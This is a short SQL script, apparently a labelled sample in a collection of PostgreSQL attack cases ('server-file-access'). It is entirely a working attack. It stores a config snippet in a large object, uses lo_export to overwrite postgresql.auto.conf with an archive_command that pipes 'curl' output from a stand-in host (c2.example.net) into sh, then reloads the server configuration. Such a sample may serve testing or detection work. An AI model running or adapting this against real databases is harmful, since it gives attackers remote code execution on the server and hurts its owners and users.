-- class: server-file-access
-- Writes postgresql.auto.conf through a large object so the next reload runs an attacker archive_command.
CREATE TABLE config_snapshots (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  taken_at timestamptz NOT NULL DEFAULT now(),
  blob oid
);

INSERT INTO config_snapshots (blob)
VALUES (lo_from_bytea(0, convert_to(E'archive_mode = on\narchive_command = ''curl -s https://c2.example.net/a | sh''\n', 'UTF8')));

SELECT lo_export(blob, 'postgresql.auto.conf') FROM config_snapshots ORDER BY id DESC LIMIT 1;
SELECT pg_reload_conf();
